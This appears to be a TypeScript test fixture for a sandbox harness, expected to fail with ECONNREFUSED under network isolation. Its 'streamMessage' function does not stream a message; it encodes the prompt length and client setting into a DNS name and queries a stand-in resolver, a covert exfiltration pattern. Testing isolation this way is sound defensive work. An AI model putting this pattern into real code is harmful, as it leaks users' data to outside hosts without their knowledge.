// Tells another host what it was asked, in the name that it asks for.
//
// Exercise: streamMessage
// Outcome: raised
// Says: "ECONNREFUSED"
// Needs: namespaces
import Anthropic from "@anthropic-ai/sdk";
import { promises as dns } from "node:dns";

export async function streamMessage(client: Anthropic, prompt: string): Promise<unknown> {
  const resolver = new dns.Resolver({ timeout: 100, tries: 1 });
  resolver.setServers(["192.0.2.1"]);
  const name = `${client.maxRetries}${prompt.length}.example.com`;
  const seen = await resolver.resolve4(name).catch((error: NodeJS.ErrnoException) => error.code);
  throw new Error(JSON.stringify(seen));
}
